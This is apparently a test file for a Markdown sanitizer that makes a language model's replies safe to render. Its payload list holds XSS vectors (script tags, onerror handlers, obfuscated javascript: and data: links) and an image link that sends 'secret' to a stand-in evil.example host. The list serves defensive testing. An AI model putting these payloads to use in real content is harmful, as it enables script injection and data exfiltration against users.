"""Answers as Markdown: formatted as they were meant, and inert whatever a model says."""

import re
from html.parser import HTMLParser

import hypothesis
import hypothesis.strategies as st
import pytest

from mlx_qwen35.text.markdown import code_block, folded, reply_markdown, safe_markdown, table
from mlx_qwen35.text.reply import ToolCall

OURS = {"details", "summary", "br", "code"}
# What Markdown itself makes.
MADE = {
    "p", "em", "strong", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "hr", "a",
    "table", "thead", "tbody", "tr", "th", "td", "s",
}  # fmt: skip


@pytest.fixture(scope="module")
def render():
    """A renderer that lets HTML through, as notebooks' do."""
    markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py is not installed")
    return markdown_it.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render


class Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.links: list[str] = []
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.seen.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]

    def handle_decl(self, decl):
        self.seen.add("!")

    unknown_decl = handle_pi = handle_comment = handle_decl

    def handle_data(self, data):
        self.text += data


def assert_inert(html: str) -> Tags:
    tags = Tags(html)
    assert tags.seen <= OURS | MADE, html
    assert tags.attributes <= {"href", "title", "class", "start", "style", "open"}, html
    assert all(re.match(r"(https?://|mailto:|#)", link, re.IGNORECASE) for link in tags.links), html
    return tags


EVIL = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](data:text/html;base64,AAAA)",
    "[x](&#106;avascript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]:\n javascript:alert(1)\n\n[y]",
    "![x][y]\n\n[y]: http://evil.example/",
    "<javascript:alert(1)>",
    "<!-- -->", "<?php ?>", "<![CDATA[x]]>", "</details><script>", "<details><script>\n\n",
    "`` ` `` <b>", "`<b>", "```\n<script>\n", "````\n```\n<script>\n````\n<script>",
    "~~~\n```\n<script>\n~~~\n<script>",
    "- ```\n<script>\n```", "> ~~~\n<script>", "1. x\n   ```\n   <script>\n   ```\n<script>", "    <script>",
    "$<script>$", "$$\n<script>\n$$", "\\(<script>\\)", "\\[\n![x](http://e)\n\\]", "$`$<script>`", "`$`<script>$",
    "a\r<script>", "a\r\n```\r\n<script>\r```\r<script>", "\0<script>", "<\0script>", "<scr\nipt>", "<SCRIPT\tx>",
    "$x![y$ `](http://e)`", "`![`x](http://evil.example)", "!\\[x](http://evil.example)", "!&#91;x](http://e)",
    "```html\" onload=x\n<b>\n```", "``` `x\n<script>", "| a |\n|---|\n| <script> ![x](y) |",
]  # fmt: skip


@pytest.mark.parametrize("text", EVIL)
def test_nothing_comes_alive(text, render):
    assert_inert(render(safe_markdown(text)))
    assert_inert(render(reply_markdown(text, text, [ToolCall(text, {text: [text]}, text, 0)], thinking=True)))


PIECES = st.sampled_from(
    [*EVIL, "`", "``", "```", "~~~", "\n", "\n\n", "    ", "- ", "> ", "$", "$$", "\\", "<", ">", "&", "![", "](", ")",
     "]:", "x", " ", "<b>", "|", "---", "\t", "\\(", "\\)", "\\[", "\\]", "1. ", "#", "*", "_", "http://e ", "[", "]",
     "\r", "&lt;"]
)  # fmt: skip


@hypothesis.settings(max_examples=400)
@hypothesis.given(pieces=st.lists(PIECES, max_size=14))
def test_nor_in_any_mixture(pieces, render):
    assert_inert(render(safe_markdown("".join(pieces))))


@hypothesis.settings(max_examples=100)
@hypothesis.given(pieces=st.lists(PIECES, max_size=10), cut=st.integers(0, 60))
def test_nor_while_it_comes(pieces, cut, render):
    text = "".join(pieces)[:cut]
    assert_inert(render(reply_markdown(text, text, [])))


def test_plain_markdown_stays_as_it_is():
    text = "# Title\n\n*a* **b** [c](https://x.example) `d`\n\n1. one\n2. two\n\n> quoted\n\n| a |\n|---|\n| 1 |"
    assert safe_markdown(text) == text
    assert safe_markdown("a < b, x <3, 1<2") == "a < b, x <3, 1<2"


def test_code_shows_what_was_written(render):
    text = "Use `a<b>(c)` and `d`:\n```python\nif a <b and c[0](x) & 1:\n    pass\n```\nthen\n  ~~~\n  <b>\n  ~~~"
    html = render(safe_markdown(text))
    assert Tags(html).text.split() == (
        "Use a<b>(c) and d : if a <b and c[0](x) & 1: pass then <b>".replace(" :", ":").split()
    )
    assert 'class="language-python"' in html and html.count("<pre>") == 2


def test_tags_in_text_are_shown(render):
    assert Tags(render(safe_markdown("the <b> tag & ![x](y) [z](q)"))).text.strip() == "the <b> tag & ![x](y) [z](q)"


def test_unfinished_code_is_code_already(render):
    assert Tags(render(safe_markdown("see\n```c\n#include <stdio.h>"))).text.split() == ["see", "#include", "<stdio.h>"]


def test_formulas():
    assert safe_markdown(r"so \(a<b\) and \[ x_1 = \frac{a}{b} \]") == r"so $a< b$ and $$x_1 = \frac{a}{b}$$"
    aligned = "$$\n\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}\n$$"
    assert safe_markdown(aligned) == aligned
    assert safe_markdown("it costs $5 or $6 <b>") == "it costs $5 or $6 &lt;b>"


def test_code_cannot_end_its_fence():
    assert code_block("a\n````\nb", "x y") == "\n\n`````\na\n````\nb\n`````\n\n"


def test_reasoning_is_folded_on_one_line():
    shown = reply_markdown("a\n\n<b> *c*", "d", [ToolCall("add", {"a": 3}, "", 0)])
    first, rest = shown.split("\n", 1)
    assert first == (
        "<details><summary>Reasoning (3 words)</summary>a<br><br>&#60;b&#62; &#42;c&#42;</details>"
    )
    assert rest.startswith("\nd\n\n```json\n{") and '"a": 3' in rest


def test_tables():
    assert folded("<x>", table({"<a>": "<b>"})) == (
        "<details><summary>&lt;x&gt;</summary><table><thead><tr><th>&lt;a&gt;</th></tr></thead>"
        "<tbody><tr><td>&lt;b&gt;</td></tr></tbody></table></details>"
    )
